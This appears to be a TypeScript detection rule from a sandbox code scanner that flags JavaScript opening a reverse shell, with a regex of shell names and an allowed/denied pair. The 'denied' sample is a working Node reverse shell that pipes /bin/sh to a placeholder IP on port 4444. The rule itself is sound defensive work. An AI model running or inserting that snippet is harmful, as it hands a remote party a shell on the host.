import type { JavaScriptRule } from '../../rule.ts';

const shells = /^(?:(?:\/usr)?\/bin\/)?(?:ba|z|da|k)?sh(?: -i)?$|^cmd(?:\.exe)?$|^powershell/;

export const reverseShell: JavaScriptRule = {
  id: 'js-reverse-shell',
  severity: 'high',
  title: 'It connects a shell to the network.',
  cause: 'Whoever is at the other end has a prompt in the sandbox.',
  explanation: 'A program that opens connections and starts a shell by its name or path.',
  hint: 'Leave it out; sandboxes have no network.',
  denied:
    'const sh = require("child_process").spawn("/bin/sh", []);\nrequire("net").connect(4444, "198.51.100.7", function () {\n  this.pipe(sh.stdin);\n});\n',
  allowed: 'require("net").connect(80, "example.org");\n',
  *find({ texts, runsCommands, usesNetwork }) {
    if (!runsCommands || !usesNetwork) return;
    for (const { node, text } of texts) if (shells.test(text)) yield { node };
  },
};
